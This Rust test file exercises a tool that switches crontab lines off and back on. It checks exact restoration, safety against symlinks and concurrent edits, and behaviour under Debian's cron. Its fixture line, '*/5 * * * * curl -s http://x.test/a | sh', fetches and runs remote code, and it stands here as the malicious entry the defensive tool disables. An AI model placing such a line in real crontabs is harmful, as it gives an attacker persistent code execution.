//! Crontab lines: off and on to the byte, beside an owner who edits, after death at every step, with Debian's own cron.

#[path = "node/death.rs"]
mod death;
mod node;

use std::os::unix::fs::{MetadataExt, PermissionsExt, chown, symlink};
use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};

use model::{AccountRef, CronLine, Failure, Hash, Measure, Restriction};
use node::*;

const TENANT: u32 = 20_220;
const LINE: &str = "*/5 * * * * curl -s http://x.test/a | sh";

/// A node whose spool is a scratch folder like Debian's.
fn cron_node() -> Option<Node> {
    if !is_root() {
        skipped("other owners need root");
        return None;
    }
    let node = Node::new();
    std::fs::create_dir(&node.config.cron_spool).unwrap();
    std::fs::set_permissions(&node.config.cron_spool, PermissionsExt::from_mode(0o1730)).unwrap();
    Some(node)
}

fn tenant() -> AccountRef {
    account("hkcron", TENANT)
}

fn table(node: &Node) -> PathBuf {
    node.config.cron_spool.join("hkcron")
}

/// Installs a table as crontab(1) does: a new file of the owner, renamed over the old one.
fn install(path: &Path, bytes: &[u8]) {
    let new = path.with_file_name("tmp.X1");
    std::fs::write(&new, bytes).unwrap();
    std::fs::set_permissions(&new, PermissionsExt::from_mode(0o600)).unwrap();
    chown(&new, Some(TENANT), Some(TENANT)).unwrap();
    std::fs::rename(&new, path).unwrap();
}

fn off(serial: u16, bytes: &[u8], start: usize, end: usize) -> Restriction {
    let line = CronLine { hash: Hash::of(bytes), start: start as u32, end: end as u32 };
    restriction(serial, 0, Measure::DisableCronLine { line })
}

/// An order against the first whole line that is `LINE`.
fn off_line(serial: u16, bytes: &[u8]) -> Restriction {
    let at = bytes.windows(LINE.len()).position(|w| w == LINE.as_bytes()).unwrap();
    off(serial, bytes, at, at + LINE.len())
}

fn mark(one: &Restriction) -> String {
    format!("#{} ", one.id)
}

/// Everything of a file that must come back.
fn facts(path: &Path) -> (Vec<u8>, u32, u32, u32, i64, i64) {
    let meta = path.metadata().unwrap();
    (std::fs::read(path).unwrap(), meta.mode(), meta.uid(), meta.gid(), meta.mtime(), meta.mtime_nsec())
}

fn alone(node: &Node, names: &[&str]) {
    let list = std::fs::read_dir(&node.config.cron_spool).unwrap();
    let mut list: Vec<String> = list.map(|e| e.unwrap().file_name().into_string().unwrap()).collect();
    list.sort();
    assert_eq!(list, names);
}

/// Numbers that look like chance and repeat (xorshift64).
struct Dice(u64);

impl Dice {
    fn roll(&mut self, below: usize) -> usize {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        (self.0 % below as u64) as usize
    }
}

/// A table of any bytes, and the range of one of its lines that is no comment and not empty.
fn random_table(dice: &mut Dice) -> (Vec<u8>, usize, usize) {
    let lines = 1 + dice.roll(12);
    let big = (dice.roll(20) == 0).then(|| dice.roll(lines));
    let mut bytes = Vec::new();
    for number in 0..lines {
        match dice.roll(6) {
            0 => bytes.extend(b"# a comment"),
            1 => bytes.extend((0..dice.roll(60)).map(|_| [0, 0xff, 0xc3, b'\t', b'a', b'%'][dice.roll(6)])),
            _ if big == Some(number) => bytes.extend(std::iter::repeat_n(b'x', 1 << 19)),
            3 => {}
            _ => bytes.extend(LINE.as_bytes()),
        }
        bytes.extend([&b"\n"[..], b"\r\n", b"\n\n"][dice.roll(3)]);
    }
    bytes.extend(LINE.as_bytes());
    bytes.extend([&b""[..], b"\n"][dice.roll(2)]);
    let (mut at, mut ranges) = (0, Vec::new());
    for line in bytes.split(|b| *b == b'\n') {
        if !line.is_empty() && line[0] != b'#' {
            ranges.push((at, at + line.len()));
        }
        at += line.len() + 1;
    }
    let (start, end) = ranges[dice.roll(ranges.len())];
    (bytes, start, end)
}

#[test]
fn any_table_comes_back_to_the_byte_with_owner_mode_and_time() {
    let Some(node) = cron_node() else { return };
    let mut actor = node.open();
    let seed = 0x9e37_79b9_7f4a_7c15;
    let mut dice = Dice(seed);
    for round in 0..120_u16 {
        let (bytes, start, end) = random_table(&mut dice);
        install(&table(&node), &bytes);
        let before = facts(&table(&node));
        let one = off(round, &bytes, start, end);
        let intent = u64::from(round) * 4;
        let what = done(actor.handle(impose(intent + 1, &tenant(), &one, &[])));
        assert!(what.contains(&one.id.to_string()), "{what}");
        let after = facts(&table(&node));
        let mut wanted = bytes.clone();
        wanted.splice(start..start, mark(&one).bytes());
        assert!(after.0 == wanted, "seed {seed:x} round {round}");
        assert_eq!((after.1, after.2, after.3), (before.1, before.2, before.3));
        assert_ne!(after.4, before.4, "cron compares whole seconds");
        // The same order once more, also under a new id of the intent, changes nothing.
        done(actor.handle(impose(intent + 1, &tenant(), &one, &[])));
        done(actor.handle(impose(intent + 2, &tenant(), &one, &[])));
        assert!(facts(&table(&node)) == after);
        assert_eq!(
            in_force(&mut actor).iter().map(|(id, holds, _)| (*id, *holds)).collect::<Vec<_>>(),
            [(one.id, true)]
        );
        done(actor.handle(lift(intent + 3, &tenant(), &one, false)));
        assert!(facts(&table(&node)) == before, "seed {seed:x} round {round}");
    }
    alone(&node, &["hkcron"]);
}

#[test]
fn an_access_list_and_attributes_stay_on_the_table() {
    let Some(node) = cron_node() else { return };
    let text = format!("{LINE}\n");
    install(&table(&node), text.as_bytes());
    let list = |arguments: &[&str]| Command::new("setfacl").args(arguments).arg(table(&node)).status();
    if !list(&["-m", "u:20221:r"]).is_ok_and(|status| status.success()) {
        skipped("no setfacl, or a file system without access lists");
        return;
    }
    let lists = || Command::new("getfacl").arg("-pn").arg(table(&node)).output().unwrap().stdout;
    let before = (lists(), facts(&table(&node)));
    let mut actor = node.open();
    let one = off_line(1, text.as_bytes());
    done(actor.handle(impose(1, &tenant(), &one, &[])));
    assert_eq!(lists(), before.0);
    done(actor.handle(lift(2, &tenant(), &one, false)));
    assert!((lists(), facts(&table(&node))) == before);
    assert!(String::from_utf8_lossy(&before.0).contains("user:20221:r--"));
}

#[test]
fn incidents_on_one_table_come_off_in_any_order_and_the_last_brings_back_its_time() {
    let Some(node) = cron_node() else { return };
    let text = format!("{LINE}\n{LINE}\n0 4 * * * backup\n");
    let backup = text.find("0 4").unwrap();
    // The second order may be of the table as it was read before the first was carried out, or after it.
    let orders = [[0, 1, 2], [0, 2, 1], [1, 0, 2], [1, 2, 0], [2, 0, 1], [2, 1, 0]];
    for (round, (order, read_before)) in orders.iter().flat_map(|o| [(o, true), (o, false)]).enumerate() {
        install(&table(&node), text.as_bytes());
        let before = facts(&table(&node));
        let mut actor = node.open();
        let mut intent = 20 * round as u64;
        let mut next = || {
            intent += 1;
            intent
        };
        let mut all = Vec::new();
        for (serial, start, end) in
            [(1, 0, LINE.len()), (2, LINE.len() + 1, 2 * LINE.len() + 1), (3, backup, text.len() - 1)]
        {
            let one = match read_before {
                true => off(serial, text.as_bytes(), start, end),
                false => {
                    let now = std::fs::read(table(&node)).unwrap();
                    let marks = now.len() - text.len();
                    off(serial, &now, start + marks, end + marks)
                }
            };
            done(actor.handle(impose(next(), &tenant(), &one, &[])));
            all.push(one);
        }
        let [one, two, three] = [0, 1, 2].map(|n: usize| mark(&all[n]));
        let marked = format!("{one}{LINE}\n{two}{LINE}\n{three}0 4 * * * backup\n");
        assert_eq!(std::fs::read_to_string(table(&node)).unwrap(), marked);
        assert!(in_force(&mut actor).iter().all(|(_, holds, _)| *holds));
        // Ordered once more, whatever the others did to the table meanwhile.
        for one in &all {
            done(actor.handle(impose(next(), &tenant(), one, &[])));
        }
        assert_eq!(std::fs::read_to_string(table(&node)).unwrap(), marked);
        for (lifted, n) in order.iter().enumerate() {
            let what = done(actor.handle(lift(next(), &tenant(), &all[*n], false)));
            assert_eq!(what.contains("as it was"), lifted == 2, "{order:?}: {what}");
            assert!(!what.contains("owner changed"), "{order:?}: {what}");
            assert_eq!(in_force(&mut actor).iter().filter(|(_, holds, _)| *holds).count(), 2 - lifted);
        }
        assert!(facts(&table(&node)) == before, "{order:?}, read before {read_before}");
    }
    alone(&node, &["hkcron"]);
}

#[test]
fn of_two_lines_that_are_off_each_is_repaired_alone_and_an_edit_between_them_keeps_its_own_time() {
    let Some(node) = cron_node() else { return };
    let text = format!("{LINE}\n0 4 * * * backup\n");
    install(&table(&node), text.as_bytes());
    let mut actor = node.open();
    let (one, two) = (off_line(1, text.as_bytes()), off(2, text.as_bytes(), LINE.len() + 1, text.len() - 1));
    for (intent, one) in [(1, &one), (2, &two)] {
        done(actor.handle(impose(intent, &tenant(), one, &[])));
    }
    // The owner takes both marks out, and the later order is repaired first.
    install(&table(&node), text.as_bytes());
    for (intent, one) in [(2, &two), (1, &one)] {
        assert!(done(actor.handle(impose(intent, &tenant(), one, &[]))).contains("repaired"));
    }
    let marked = format!("{}{LINE}\n{}0 4 * * * backup\n", mark(&one), mark(&two));
    assert_eq!(std::fs::read_to_string(table(&node)).unwrap(), marked);
    // He adds a line: a third order speaks of that table and its time.
    let edited = format!("{marked}0 5 * * * other\n");
    install(&table(&node), edited.as_bytes());
    let his = facts(&table(&node));
    let three = off(3, edited.as_bytes(), marked.len(), edited.len() - 1);
    done(actor.handle(impose(3, &tenant(), &three, &[])));
    done(actor.handle(lift(4, &tenant(), &three, false)));
    assert_eq!(std::fs::read_to_string(table(&node)).unwrap(), edited);
    let what = [(5, &one), (6, &two)].map(|(intent, one)| done(actor.handle(lift(intent, &tenant(), one, false))));
    assert!(what.iter().all(|what| what.contains("as the owner changed it")), "{what:?}");
    assert_eq!(std::fs::read_to_string(table(&node)).unwrap(), format!("{text}0 5 * * * other\n"));
    // The third was ordered of his own table, without marks it is that one again.
    install(&table(&node), &his.0);
    let before = facts(&table(&node));
    done(actor.handle(impose(7, &tenant(), &three, &[])));
    done(actor.handle(lift(8, &tenant(), &three, false)));
    assert!(facts(&table(&node)) == before);
}

#[test]
fn what_the_owner_changed_since_stays_and_only_our_mark_goes() {
    let Some(node) = cron_node() else { return };
    let text = format!("MAILTO=a@b.test\n{LINE}\n");
    let one = off_line(1, text.as_bytes());
    let marked = format!("{}{LINE}", mark(&one));
    for (edited, undone, said) in [
        (format!("{marked}\n0 1 * * * new"), format!("{LINE}\n0 1 * * * new"), "runs again; the rest"),
        (format!("{marked} --more\n"), format!("{marked} --more\n"), "nothing changed"),
        (format!("{marked}\n{marked}\n"), format!("{marked}\n{marked}\n"), "copied"),
        ("0 1 * * * new\n".into(), "0 1 * * * new\n".into(), "nothing changed"),
        (text.clone(), text.clone(), "as it was"),
        (String::new(), String::new(), "nothing changed"),
    ] {
        install(&table(&node), text.as_bytes());
        let fresh = node_with_own_journal(&node);
        let mut actor = fresh.open();
        done(actor.handle(impose(1, &tenant(), &one, &[])));
        install(&table(&node), edited.as_bytes());
        let before = facts(&table(&node));
        let what = done(actor.handle(lift(2, &tenant(), &one, false)));
        assert!(what.contains(said), "{edited:?}: {what}");
        assert_eq!(std::fs::read_to_string(table(&node)).unwrap(), undone);
        if edited == undone {
            assert!(facts(&table(&node)) == before, "not even its time");
        }
    }
    // No table at all any more.
    install(&table(&node), text.as_bytes());
    let fresh = node_with_own_journal(&node);
    let mut actor = fresh.open();
    done(actor.handle(impose(1, &tenant(), &one, &[])));
    std::fs::remove_file(table(&node)).unwrap();
    assert!(in_force(&mut actor)[0].1, "no table, no line that runs");
    assert!(done(actor.handle(lift(2, &tenant(), &one, false))).contains("no crontab"));
    alone(&node, &[]);
}

/// The same spool, a journal of its own.
fn node_with_own_journal(node: &Node) -> Node {
    let mut fresh = Node::new();
    fresh.config.cron_spool = node.config.cron_spool.clone();
    fresh
}

#[test]
fn a_mark_that_the_owner_took_out_is_told_and_not_put_back_in_a_loop() {
    let Some(node) = cron_node() else { return };
    let text = format!("{LINE}\n");
    install(&table(&node), text.as_bytes());
    let mut actor = node.open();
    let one = off_line(1, text.as_bytes());
    let order = impose(1, &tenant(), &one, &[]);
    done(actor.handle(order.clone()));
    let edited = format!("{LINE}\n# mine\n");
    install(&table(&node), edited.as_bytes());
    let seen = in_force(&mut actor);
    assert!(!seen[0].1 && seen[0].2.contains("took our mark out"), "{seen:?}");
    for intent in [1, 2] {
        let why = failed(actor.handle(impose(intent, &tenant(), &one, &[])));
        assert!(matches!(&why, Failure::Gone(why) if why.contains("order anew")), "{why:?}");
        assert_eq!(std::fs::read_to_string(table(&node)).unwrap(), edited);
    }
    // With the table as it was ordered the line is switched off again: that is drift, not a decision.
    install(&table(&node), text.as_bytes());
    assert!(done(actor.handle(order)).contains("repaired"));
    // A line that the owner removed himself runs no more: it holds.
    install(&table(&node), b"0 1 * * * other\n");
    assert!(in_force(&mut actor)[0].1);
}

#[test]
fn kept_off_for_good_the_line_can_still_be_given_back() {
    let Some(node) = cron_node() else { return };
    let text = format!("{LINE}\n");
    install(&table(&node), text.as_bytes());
    let before = facts(&table(&node));
    let mut actor = node.open();
    let one = off_line(1, text.as_bytes());
    done(actor.handle(impose(1, &tenant(), &one, &[])));
    done(actor.handle(lift(2, &tenant(), &one, true)));
    assert!(std::fs::read_to_string(table(&node)).unwrap().starts_with(&mark(&one)));
    drop(actor);
    done(node.open().handle(lift(3, &tenant(), &one, false)));
    assert!(facts(&table(&node)) == before);
    // After a month of being kept off it is forgotten how, and that is said.
    let mut actor = node.open();
    let again = off_line(2, text.as_bytes());
    done(actor.handle(impose(4, &tenant(), &again, &[])));
    done(actor.handle(lift(5, &tenant(), &again, true)));
    actor.tick();
    node.pass_time(30 * 86_400);
    actor.tick();
    let what = done(actor.handle(lift(6, &tenant(), &again, false)));
    assert!(what.contains("what was kept of it (0 files) was deleted at"), "{what}");
}

#[test]
fn a_table_that_is_not_the_accounts_own_and_a_range_that_is_no_line_are_refused() {
    let Some(node) = cron_node() else { return };
    let mut actor = node.open();
    let text = format!("A=1\n{LINE}\n#c\n");
    let path = table(&node);
    let outside = node.folder.path().join("outside");
    std::fs::write(&outside, &text).unwrap();
    chown(&outside, Some(TENANT), None).unwrap();
    let one = off_line(1, text.as_bytes());
    let refused = |actor: &mut act::Actor, one: &Restriction, said: &str| {
        let why = failed(actor.handle(impose(1, &tenant(), one, &[])));
        assert!(why.to_string().contains(said), "{said}: {why}");
        assert_eq!(std::fs::read_to_string(&outside).unwrap(), text);
        assert_eq!(in_force(actor), []);
    };
    refused(&mut actor, &one, "no crontab");
    symlink(&outside, &path).unwrap();
    // The naive twin reads and writes by path, through the link.
    let naive = std::fs::read(&path).unwrap();
    assert_eq!(Hash::of(&naive), Hash::of(text.as_bytes()), "the twin is led outside");
    refused(&mut actor, &one, "look at it yourself");
    std::fs::remove_file(&path).unwrap();
    std::fs::hard_link(&outside, &path).unwrap();
    refused(&mut actor, &one, "2 links");
    std::fs::remove_file(&path).unwrap();
    rustix::fs::mknodat(rustix::fs::CWD, &path, rustix::fs::FileType::Fifo, 0o600.into(), 0).unwrap();
    refused(&mut actor, &one, "no regular file");
    std::fs::remove_file(&path).unwrap();
    install(&path, text.as_bytes());
    chown(&path, Some(TENANT + 1), None).unwrap();
    refused(&mut actor, &one, "belongs to uid 20221");
    chown(&path, Some(TENANT), None).unwrap();
    let all = text.len();
    for (start, end) in [(4, 6), (5, 4 + LINE.len()), (4, 4), (0, all), (all + 5, all + 9), (9, 4)] {
        refused(&mut actor, &off(1, text.as_bytes(), start, end), "no whole line");
    }
    refused(&mut actor, &off(1, text.as_bytes(), all - 3, all - 1), "is a comment");
    refused(&mut actor, &off_line(1, format!("{text}x").as_bytes()), "changed since");
    std::fs::set_permissions(&node.config.cron_spool, PermissionsExt::from_mode(0o1777)).unwrap();
    refused(&mut actor, &one, "anybody may write");
}

#[test]
fn a_table_with_more_than_cron_takes_is_refused_and_a_lift_ends_where_the_owner_made_it_so_long() {
    let Some(node) = cron_node() else { return };
    let mut actor = node.open();
    let whole = format!("{LINE}\n").repeat(1000);
    for (intent, text) in [(1, format!("{whole}\n")), (2, format!("{LINE}\n#{}", "x".repeat(1 << 20)))] {
        install(&table(&node), text.as_bytes());
        let why = failed(actor.handle(impose(intent, &tenant(), &off_line(1, text.as_bytes()), &[]))).to_string();
        assert!(why.contains("has more than 10") && why.contains("look at it yourself"), "{why}");
        assert_eq!(std::fs::read(table(&node)).unwrap(), text.as_bytes());
    }
    // As many as cron takes, all alike: each order finds its own, with marks before it and behind it.
    install(&table(&node), whole.as_bytes());
    let before = facts(&table(&node));
    let all: Vec<Restriction> = [700, 0, 999, 701]
        .into_iter()
        .zip(1..)
        .map(|(number, serial)| {
            let start = number * (LINE.len() + 1);
            off(serial, whole.as_bytes(), start, start + LINE.len())
        })
        .collect();
    for (one, intent) in all.iter().zip(10..) {
        done(actor.handle(impose(intent, &tenant(), one, &[])));
    }
    let mut wanted: Vec<String> = whole.lines().map(str::to_owned).collect();
    [700, 0, 999, 701].iter().zip(&all).for_each(|(number, one)| wanted[*number].insert_str(0, &mark(one)));
    assert!(std::fs::read_to_string(table(&node)).unwrap().lines().eq(wanted));
    for (one, intent) in all.iter().zip(20..) {
        done(actor.handle(lift(intent, &tenant(), one, false)));
    }
    assert!(facts(&table(&node)) == before);
    // The owner makes many of the one that is off: nothing is done about it again and again.
    done(actor.handle(impose(30, &tenant(), &all[1], &[])));
    let marked = format!("{}{LINE}\n", mark(&all[1])).repeat(8_000);
    install(&table(&node), marked.as_bytes());
    let what = done(actor.handle(lift(31, &tenant(), &all[1], false)));
    assert!(what.contains("nothing changed") && what.contains("1000 lines"), "{what}");
    assert_eq!(in_force(&mut actor), []);
    assert_eq!(std::fs::read(table(&node)).unwrap(), marked.as_bytes());
}

#[test]
fn death_at_any_step_leaves_the_line_off_or_on_and_nothing_beside_it() {
    let Some(_) = cron_node() else { return };
    let text = format!("MAILTO=a@b.test\n{LINE}");
    for lifting in [false, true] {
        // The owner does nothing, or installs another table just when we change it.
        for at in [None, Some("swap: complete"), Some("swap: exchanged"), Some("swap: exchanged back")] {
            let mut steps = 0;
            for n in 1.. {
                let node = cron_node().unwrap();
                install(&table(&node), text.as_bytes());
                let before = facts(&table(&node));
                let one = off_line(1, text.as_bytes());
                let order = impose(1, &tenant(), &one, &[]);
                if lifting {
                    done(node.open().handle(order.clone()));
                }
                let packet = if lifting { lift(2, &tenant(), &one, false) } else { order };
                let (path, edited) = (table(&node), format!("{LINE}\n0 1 * * * edit\n"));
                let (his, wrote) = (edited.clone(), Arc::new(AtomicU64::new(0)));
                let count = wrote.clone();
                let dies = death::die_after(&node, n, &packet, move |step| {
                    if Some(step) == at && count.fetch_add(1, Ordering::Relaxed) == 0 {
                        install(&path, his.as_bytes());
                    }
                });
                if dies.is_none() {
                    break;
                }
                steps = n;
                death::die_while_opening(&node);
                let mut actor = node.open();
                let held = in_force(&mut actor);
                alone(&node, &["hkcron"]);
                let now = std::fs::read_to_string(table(&node)).unwrap();
                let what = format!("lifting {lifting}, step {n}, owner {at:?}: {now:?}");
                if wrote.load(Ordering::Relaxed) > 0 {
                    assert_eq!(now, edited, "his edit is lost: {what}");
                    continue;
                }
                assert_eq!(now.contains(&mark(&one)), !held.is_empty(), "{what}");
                assert!(held.iter().all(|(_, holds, _)| *holds), "{what}");
                done(actor.handle(packet));
                assert_eq!(std::fs::read_to_string(table(&node)).unwrap().contains(&mark(&one)), !lifting, "{what}");
                done(actor.handle(lift(3, &tenant(), &one, false)));
                assert!(facts(&table(&node)) == before, "{what}");
            }
            assert!(steps >= 6, "the hook was never called");
        }
    }
}

/// How many races: `HK_RACES`, else few enough for each build.
fn races(small: u64) -> u64 {
    std::env::var("HK_RACES").ok().and_then(|n| n.parse().ok()).unwrap_or(small)
}

/// Races one change of ours against edits of the owner; how many times his last edit was lost.
///
/// `change` gets the path, the order, and a bell that it rings when the owner shall write.
fn lost(node: &Node, rounds: u64, mut change: impl FnMut(u64, &[u8], &Arc<AtomicU64>)) -> u64 {
    let bell = Arc::new(AtomicU64::new(0));
    let mut dice = Dice(0x1234_5678_9abc_def1);
    let mut lost = 0;
    for round in 0..rounds {
        let text = format!("{LINE}\n# edit 0 of {round}\n");
        install(&table(node), text.as_bytes());
        bell.store(0, Ordering::SeqCst);
        let (edits, in_place, wait) = (1 + dice.roll(3) as u64, dice.roll(2) == 0, dice.roll(3000));
        let (path, rings) = (table(node), bell.clone());
        let owner = std::thread::spawn(move || {
            for edit in 1..=edits {
                // Not longer than our change lasts, so that nobody waits for a bell that never rings.
                for _ in 0..2_000_000 {
                    if rings.load(Ordering::SeqCst) >= edit {
                        break;
                    }
                    std::hint::spin_loop();
                }
                (0..wait).for_each(|_| std::hint::spin_loop());
                let text = format!("{LINE}\n# edit {edit} of {round}\n");
                match in_place && path.exists() {
                    true => std::fs::write(&path, text).unwrap(),
                    false => install(&path, text.as_bytes()),
                }
            }
        });
        change(round, text.as_bytes(), &bell);
        bell.store(u64::MAX, Ordering::SeqCst);
        owner.join().unwrap();
        let now = std::fs::read_to_string(table(node)).unwrap();
        lost += u64::from(!now.ends_with(&format!("# edit {edits} of {round}\n")));
    }
    lost
}

#[test]
fn an_owner_who_edits_while_we_write_loses_nothing_where_the_naive_twin_loses() {
    let Some(node) = cron_node() else { return };
    let bob = node.config.cron_spool.join("bob");
    std::fs::write(&bob, format!("{LINE}\n")).unwrap();
    chown(&bob, Some(TENANT + 1), None).unwrap();
    let bobs = (facts(&bob), bob.metadata().unwrap().ino());
    let rounds = races(150);
    let bell_of_actor = Arc::new(std::sync::Mutex::new(None::<Arc<AtomicU64>>));
    let rings = bell_of_actor.clone();
    let mut actor = node.open_with(Box::new(move |step| {
        if step.starts_with("swap: ")
            && let Some(bell) = rings.lock().unwrap().as_ref()
        {
            bell.fetch_add(1, Ordering::SeqCst);
        }
    }));
    let mut switched = 0;
    let ours = lost(&node, rounds, |round, text, bell| {
        *bell_of_actor.lock().unwrap() = Some(bell.clone());
        let one = off_line((round % 30_000) as u16, text);
        let imposed = actor.handle(impose(2 * round + 1, &tenant(), &one, &[]));
        switched += u64::from(matches!(imposed[0], model::packet::FromAct::Done { .. }));
        done(actor.handle(lift(2 * round + 2, &tenant(), &one, false)));
    });
    let naive = lost(&node, rounds.min(1000), |_, text, bell| {
        let path = table(&node);
        let seen = std::fs::read(&path).unwrap();
        bell.fetch_add(1, Ordering::SeqCst);
        if seen == text {
            let new = path.with_file_name(".naive");
            std::fs::write(&new, [b"#off ", &seen[..]].concat()).unwrap();
            bell.fetch_add(2, Ordering::SeqCst);
            (0..20_000).for_each(|_| std::hint::spin_loop()); // no longer than ours, which syncs
            std::fs::rename(&new, &path).unwrap();
        }
    });
    println!("{rounds} races: {switched} lines switched off, {ours} edits lost; the twin lost {naive}");
    assert_eq!(ours, 0);
    assert!(naive > 0, "the races have no power");
    assert!((facts(&bob), bob.metadata().unwrap().ino()) == bobs, "another account's table");
    alone(&node, &["bob", "hkcron"]);
}

/// A shell command with Debian's cron paths turned to scratch ones, in a mount namespace of its own: nothing of it is
/// on the machine afterwards, and the machine's own crontabs do not run.
fn among_cron(node: &Node, script: &str) -> Command {
    let root = node.folder.path();
    let passwd =
        std::fs::read_to_string("/etc/passwd").unwrap() + &format!("hkcron:x:{TENANT}:{TENANT}::/tmp:/bin/sh\n");
    std::fs::write(root.join("passwd"), passwd).unwrap();
    let shadow = std::fs::read_to_string("/etc/shadow").unwrap() + "hkcron:*:19000:0:99999:7:::\n";
    std::fs::write(root.join("shadow"), shadow).unwrap();
    std::fs::set_permissions(root.join("shadow"), PermissionsExt::from_mode(0o600)).unwrap();
    for folder in ["run", "cron.d"] {
        let _ = std::fs::create_dir(root.join(folder));
    }
    std::fs::write(root.join("crontab"), "").unwrap();
    let mounts = format!(
        "set -e; cd {}; mount --bind cron /var/spool/cron/crontabs; mount --bind passwd /etc/passwd; mount --bind shadow /etc/shadow; \
         mount --bind run /run; mount --bind cron.d /etc/cron.d; \
         if [ -e /etc/crontab ]; then mount --bind crontab /etc/crontab; fi; {script}",
        root.display()
    );
    let mut command = Command::new("unshare");
    command.args(["--mount", "--propagation", "private", "sh", "-c", &mounts]);
    command
}

/// The node with Debian's cron, or why not.
fn with_cron() -> Option<Node> {
    let node = cron_node()?;
    if !Path::new("/usr/sbin/cron").exists() || !Path::new("/usr/bin/crontab").exists() {
        skipped("cron is not installed");
        return None;
    }
    let groups = std::fs::read_to_string("/etc/group").unwrap();
    let gid = groups.lines().find_map(|l| l.strip_prefix("crontab:x:")?.split(':').next()?.parse().ok());
    chown(&node.config.cron_spool, None, gid).unwrap();
    if !among_cron(&node, "true").status().is_ok_and(|s| s.success()) {
        skipped("no mount namespace here");
        return None;
    }
    Some(node)
}

#[test]
fn crontab_shows_the_line_off_and_then_the_table_that_it_installed() {
    let Some(node) = with_cron() else { return };
    let text = format!("# of mine\n{LINE}\n0 4 * * * backup\n");
    std::fs::write(node.folder.path().join("mine"), &text).unwrap();
    let list = || {
        let out = among_cron(&node, "crontab -u hkcron -l").output().unwrap();
        assert!(out.status.success(), "{out:?}");
        String::from_utf8(out.stdout).unwrap()
    };
    assert!(among_cron(&node, "crontab -u hkcron mine").status().unwrap().success());
    let bytes = std::fs::read(table(&node)).unwrap();
    let before = facts(&table(&node));
    assert_eq!((before.1 & 0o7777, before.2), (0o600, TENANT));
    let mut actor = node.open();
    let one = off_line(1, &bytes);
    done(actor.handle(impose(1, &tenant(), &one, &[])));
    assert!(list().ends_with(&format!("{}{LINE}\n0 4 * * * backup\n", mark(&one))));
    done(actor.handle(lift(2, &tenant(), &one, false)));
    assert!(facts(&table(&node)) == before);
    assert!(list().ends_with(&text));
    // crontab(1) can still replace and remove it: the owner stayed owner.
    assert!(among_cron(&node, "crontab -u hkcron mine && crontab -u hkcron -r").status().unwrap().success());
    alone(&node, &[]);
}

#[test]
fn debians_cron_does_not_run_a_line_that_is_off_and_runs_it_again_when_undone() {
    if std::env::var_os("HK_SLOW").is_none() {
        skipped("cron wakes once a minute, so this takes up to three; set HK_SLOW=1");
        return;
    }
    let Some(node) = with_cron() else { return };
    let out = tempfile::tempdir().unwrap();
    chown(out.path(), Some(TENANT), Some(TENANT)).unwrap();
    let run = |name: &str| std::fs::read_to_string(out.path().join(name)).unwrap_or_default().lines().count();
    let line = |name: &str| format!("* * * * * echo x >> {}/{name}", out.path().display());
    let text = format!("{}\n{}\n", line("alive"), line("target"));
    install(&table(&node), text.as_bytes());
    let before = facts(&table(&node));
    let mut actor = node.open();
    let start = line("alive").len() + 1;
    let one = off(1, text.as_bytes(), start, start + line("target").len());
    done(actor.handle(impose(1, &tenant(), &one, &[])));
    let mut cron = Sleeper(among_cron(&node, "exec cron -f").spawn().unwrap());
    let minute = |what: &str, test: &mut dyn FnMut() -> bool| {
        for _ in 0..8 {
            if test() {
                return;
            }
            let until = std::time::Instant::now() + std::time::Duration::from_secs(10);
            while std::time::Instant::now() < until && !test() {
                std::thread::sleep(std::time::Duration::from_millis(100));
            }
        }
        panic!("never seen: {what}");
    };
    minute("cron runs the other line", &mut || run("alive") == 1);
    assert_eq!(run("target"), 0, "the line is off");
    done(actor.handle(lift(2, &tenant(), &one, false)));
    assert!(facts(&table(&node)) == before, "its old time of change too");
    minute("cron read the undone table", &mut || run("target") == 1);
    assert!(cron.0.try_wait().unwrap().is_none());
}
